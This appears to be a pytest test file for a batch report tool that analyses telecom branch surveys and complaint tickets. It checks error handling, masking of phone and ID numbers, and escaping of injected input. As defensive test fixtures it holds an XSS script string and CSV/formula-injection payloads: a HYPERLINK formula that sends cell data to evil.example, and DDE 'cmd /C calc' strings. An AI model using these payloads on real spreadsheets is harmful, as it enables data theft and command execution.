"""The real notebooks through the batch: a corrupt branch, a rerun, and privacy of the output."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest

from cxeval import cli

pytestmark = pytest.mark.notebook


@pytest.fixture
def data_copy(sample_dir, tmp_path):
    folder = tmp_path / "data"
    shutil.copytree(sample_dir, folder)
    return folder


def test_corrupt_branch_fails_alone_and_only_failed_completes_it(data_copy, tmp_path, capsys):
    survey_path = data_copy / "hall_survey.csv"
    good = survey_path.read_bytes()
    survey = pd.read_csv(survey_path)
    row = survey.index[survey["branch"] == "饶平"][0]
    survey.loc[row, "satisfied"] = survey.loc[row, "responses"] + 12   # more satisfied than asked
    survey.to_csv(survey_path, index=False)
    excel_row = row + 2                                                  # header is row 1

    args = ["run", "--branches", "潮安", "饶平", "--notebooks", "01", "--data", str(data_copy),
            "--out", str(tmp_path / "reports"), "--workers", "2", "--no-progress"]
    assert cli.main(args) == 1
    (run_dir,) = (tmp_path / "reports").iterdir()
    manifest = json.loads((run_dir / "manifest.json").read_text(encoding="utf-8"))
    jobs = {j["branch"]: j for j in manifest["jobs"]}
    assert jobs["潮安"]["status"] == "ok"
    assert jobs["饶平"]["status"] == "failed"
    assert f"row {excel_row}" in jobs["饶平"]["error"] and "satisfied" in jobs["饶平"]["error"]
    index = (run_dir / "index.html").read_text(encoding="utf-8")
    assert 'class="failed"' in index and f"row {excel_row}" in index
    # the other branch's report says which rows it left out
    page = (run_dir / "潮安" / "01_baseline.html").read_text(encoding="utf-8")
    assert f"row {excel_row}" in page and "已从比较中剔除" in page

    survey_path.write_bytes(good)                                        # the user fixes the file
    assert cli.main(["run", "--only-failed", str(run_dir), "--no-progress"]) == 0
    manifest = json.loads((run_dir / "manifest.json").read_text(encoding="utf-8"))
    assert [j["status"] for j in manifest["jobs"]] == ["ok", "ok"]
    assert 'class="failed"' not in (run_dir / "index.html").read_text(encoding="utf-8")
    assert "2 reports, 0 not applicable, 0 failed" in capsys.readouterr().out


def test_no_customer_number_appears_unmasked_in_any_output(sample_dir, tmp_path):
    tickets = pd.read_parquet(sample_dir / "tickets.parquet", columns=["customer_id", "summary"])
    numbers = set(tickets["customer_id"].astype(str))
    numbers |= set(re.findall(r"1[3-9]\d{9}", " ".join(tickets["summary"].astype(str))))
    assert len(numbers) > 1000
    args = ["run", "--branches", "潮安", "--notebooks", "02", "05", "--data", str(sample_dir),
            "--out", str(tmp_path / "reports"), "--workers", "2", "--no-progress", "--format", "html", "xlsx"]
    assert cli.main(args) == 0
    (run_dir,) = (tmp_path / "reports").iterdir()
    outputs = [p for p in run_dir.rglob("*") if p.suffix in (".html", ".json", ".ipynb")]
    assert len(outputs) >= 7
    for path in outputs:
        found = set(re.findall(r"(?<!\d)1[3-9]\d{9}(?!\d)", path.read_text(encoding="utf-8"))) & numbers
        assert not found, f"{path.name} shows unmasked numbers: {sorted(found)[:3]}"
    import openpyxl

    book = openpyxl.load_workbook(run_dir / "潮安" / "潮安.xlsx", read_only=True)
    cells = " ".join(str(v) for ws in book.worksheets for row in ws.iter_rows(values_only=True) for v in row)
    assert "****" in cells
    assert not set(re.findall(r"(?<!\d)1[3-9]\d{9}(?!\d)", cells)) & numbers


def test_ticket_summary_with_script_is_escaped_in_the_report(data_copy, tmp_path):
    tickets = pd.read_parquet(data_copy / "tickets.parquet")
    mine = tickets["branch"] == "潮安"
    tickets.loc[mine, "summary"] = '<script>alert("x")</script>话费有误，联系电话：13912345678'
    tickets.to_parquet(data_copy / "tickets.parquet", index=False)
    args = ["run", "--branches", "潮安", "--notebooks", "05", "--data", str(data_copy),
            "--out", str(tmp_path / "reports"), "--workers", "1", "--no-progress"]
    assert cli.main(args) == 0
    (run_dir,) = (tmp_path / "reports").iterdir()
    page = (run_dir / "潮安" / "05_complaint_handling.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert" in page            # shown, as text
    assert '<script>alert("x")</script>' not in page  # never as markup
    assert "139****5678" in page and "13912345678" not in page


def _shift_years(folder: Path, years: dict) -> None:
    """Move every date of the sample's files by whole years, as another year's data would be."""
    def period(s, n):
        return s.astype(str).str.replace(r"^(\d{4})", lambda m: str(int(m.group(1)) + n), regex=True)

    for name, n in years.items():
        path = folder / name
        if path.suffix == ".parquet":
            frame = pd.read_parquet(path)
            for col in frame.columns:
                if col.endswith("_at"):
                    frame[col] = frame[col] + pd.DateOffset(years=n)
            frame.to_parquet(path, index=False)
            continue
        frame = pd.read_csv(path, dtype=str)
        for col in ("period", "pilot_start", "rollout_start", "due"):
            if col in frame:
                frame[col] = period(frame[col].fillna(""), n).replace("", None)
        frame.to_csv(path, index=False)


def test_data_of_another_year_gives_reports_with_no_parameter(sample_dir, tmp_path):
    """Shifted to 2024, the notebooks take their months from the data, not from the sample."""
    from cxeval import complaints, data, pilot

    folder = tmp_path / "data2024"
    shutil.copytree(sample_dir, folder)
    _shift_years(folder, {"hall_survey.csv": 16, "pilots.csv": 16, "actions.csv": 16,
                          "tickets.parquet": 14, "subscribers.csv": 14})
    args = ["run", "--branches", "潮安", "--notebooks", "02", "03", "05", "--data", str(folder),
            "--out", str(tmp_path / "reports"), "--workers", "2", "--no-progress"]
    assert cli.main(args) == 0
    (run_dir,) = (tmp_path / "reports").iterdir()
    manifest = json.loads((run_dir / "manifest.json").read_text(encoding="utf-8"))
    jobs = {j["notebook"]: j for j in manifest["jobs"]}
    assert [j["status"] for j in manifest["jobs"]] == ["ok", "ok", "ok"], [j["error"] for j in manifest["jobs"]]

    # 02: the earliest and the latest complete month of the tickets, counted by hand here
    tickets = pd.read_parquet(folder / "tickets.parquet", columns=["branch", "opened_at"])
    mine = tickets[tickets["branch"] == "潮安"]["opened_at"].dt.strftime("%Y-%m")
    r02 = jobs["02_root_cause_pareto"]["results"]
    assert (r02["tickets_before"], r02["tickets_after"]) == ((mine == "2024-01").sum(), (mine == "2024-12").sum())
    assert r02["tickets_before"] > 100
    page = (run_dir / "潮安" / "02_root_cause_pareto.html").read_text(encoding="utf-8")
    assert "措施前月份 2024-01（数据中最早的完整月份）" in page and "2010-07" not in page

    # 03: the pilot from the register, 2024-08; the same effect as the 2008 sample gives
    r03 = jobs["03_pilot_vs_rollout"]["results"]
    survey = data.load(sample_dir / "hall_survey.csv", "survey")
    original = pilot.evaluate(pilot.pilot_design(survey, branch="潮安", pilot_hall="庵埠", pilot_start="2008-08",
                                                 rollout_start="2008-09"))
    assert r03["did_effect"] == pytest.approx(original.did.effect, abs=1e-12)
    page = (run_dir / "潮安" / "03_pilot_vs_rollout.html").read_text(encoding="utf-8")
    assert "试点开始 2024-08（试点登记表 pilots）" in page

    # 05: every ticket of the branch; the 2010 campaign's baseline month is said to be missing
    r05 = jobs["05_complaint_handling"]["results"]
    assert r05["tickets"] == len(mine)
    assert r05["top_month"] == "2024-12"
    page = (run_dir / "潮安" / "05_complaint_handling.html").read_text(encoding="utf-8")
    assert "活动基线月 2010-07 不在数据范围（2024-01 至 2024-12）内" in page
    assert complaints.complete_months(tickets) == ("2024-01", "2024-12")


def test_sample_plan_makes_no_empty_report(tmp_path):
    """The shipped plan: every planned report has something to say; the rest are n/a with a reason."""
    from conftest import ROOT

    args = ["run", "--plan", str(ROOT / "projects" / "sample.yaml"), "--branches", "潮安", "饶平", "贵阳",
            "--out", str(tmp_path / "reports"), "--workers", "2", "--no-progress"]
    assert cli.main(args) == 0
    (run_dir,) = (tmp_path / "reports").iterdir()
    manifest = json.loads((run_dir / "manifest.json").read_text(encoding="utf-8"))
    status = {(j["branch"], j["notebook"][:2]): j["status"] for j in manifest["jobs"]}
    assert [k for k, v in status.items() if v == "n/a"] == [("潮安", "04"), ("饶平", "03"), ("饶平", "04"),
                                                              ("饶平", "06"), ("贵阳", "03"), ("贵阳", "06")]
    assert status[("潮安", "06")] == "ok"    # the Chaozhou project's report
    for job in manifest["jobs"]:
        if job["status"] == "n/a":
            assert job["error"] and job["html"] is None
            continue
        assert job["status"] == "ok", job["error"]
        assert job["results"]["status"] != "n/a" and job["results"]["headline"]
        page = (run_dir / Path(job["parameters"]["results_path"]).parent.name / job["html"]).read_text(
            encoding="utf-8")
        assert "不适用" not in page, (job["branch"], job["notebook"])
    # actions per branch: 潮安's register, none of it in 贵阳's report
    r02 = {j["branch"]: j["results"] for j in manifest["jobs"] if j["notebook"] == "02_root_cause_pareto"}
    assert r02["贵阳"]["key_factors_without_action"] == len(r02["贵阳"]["key_factors"]) == 6
    assert r02["潮安"]["key_factors_without_action"] == 0
    guiyang = (run_dir / "贵阳" / "02_root_cause_pareto.html").read_text(encoding="utf-8")
    assert "三道防线" not in guiyang and "三道防线" in (run_dir / "潮安" / "02_root_cause_pareto.html").read_text(
        encoding="utf-8")


# Personal numbers in every written form, and spreadsheet formulas, injected into one
# branch's data: none may come out unmasked or live in any output of the batch.
_SUMMARY = ("联系 139 8765 4321 或 +86-135-2468-1357，备用 １３６１２３４５６７８；身份证 11010519491231002X；"
            "邮箱 zhang.san@example.com；座机 (020)87654321")
_UNMASKED = re.compile(r"8765[ -]?4321|2468[ -]?1357|１２３４５６７８|19491231|zhang\.san@|0000[ -]?1111")
_HALLS = {"庵埠": '=HYPERLINK("http://evil.example/?d="&A1,"庵埠")', "彩塘": "@SUM(1+1)*cmd|' /C calc'!A0",
          "金石": "$x^$ 厅 137 0000 1111"}


def test_no_personal_number_or_formula_in_any_output(data_copy, tmp_path):
    import openpyxl

    survey_path = data_copy / "hall_survey.csv"
    survey = pd.read_csv(survey_path, dtype=str)
    mine = survey["branch"] == "潮安"
    assert set(_HALLS) <= set(survey.loc[mine, "hall"])
    survey.loc[mine, "hall"] = survey.loc[mine, "hall"].replace(_HALLS)
    below = survey["hall"].isin(list(_HALLS.values()))   # listed among the halls below target
    survey.loc[below, "satisfied"] = (survey.loc[below, "responses"].astype(int) * 4 // 5).astype(str)
    subtotal = pd.DataFrame([{"period": "2008-01", "branch": "潮安", "hall": "小计",
                              "responses": "9999", "satisfied": "9000"}])
    pd.concat([survey, subtotal]).to_csv(survey_path, index=False)
    tickets = pd.read_parquet(data_copy / "tickets.parquet")
    mine = tickets["branch"] == "潮安"
    tickets.loc[mine, "summary"] = _SUMMARY
    tickets.loc[tickets.index[mine][:40], "category"] = "+cmd|' /C calc'!A0"
    tickets.to_parquet(data_copy / "tickets.parquet", index=False)

    args = ["run", "--branches", "潮安", "--notebooks", "01", "05", "--data", str(data_copy),
            "--out", str(tmp_path / "reports"), "--workers", "2", "--no-progress", "--format", "html", "xlsx"]
    assert cli.main(args) == 0
    (run_dir,) = (tmp_path / "reports").iterdir()
    outputs = [p for p in run_dir.rglob("*") if p.suffix in (".html", ".json", ".ipynb", ".csv")]
    assert len(outputs) >= 7
    for path in outputs:
        text = path.read_text(encoding="utf-8")
        found = _UNMASKED.findall(text)
        assert not found, f"{path.name} shows unmasked numbers: {found[:3]}"
    page = (run_dir / "潮安" / "01_baseline.html").read_text(encoding="utf-8")
    assert "小计" in page and "未计入任何数字" in page        # the subtotal row is named, not counted
    assert "139 **** 4321" in (run_dir / "潮安" / "05_complaint_handling.html").read_text(encoding="utf-8")

    book = openpyxl.load_workbook(run_dir / "潮安" / "潮安.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    live = [t for t in texts if t.lstrip(" ")[:1] in ("=", "+", "@", "\t", "\r")]
    assert not live, live[:3]
    assert any(t.startswith(("'=HYPERLINK", "'@SUM", "'+cmd")) for t in texts)  # the payloads got there
    assert not _UNMASKED.findall(" ".join(texts))
    assert any(isinstance(c.value, (int, float)) for c in cells)     # numbers stay numbers
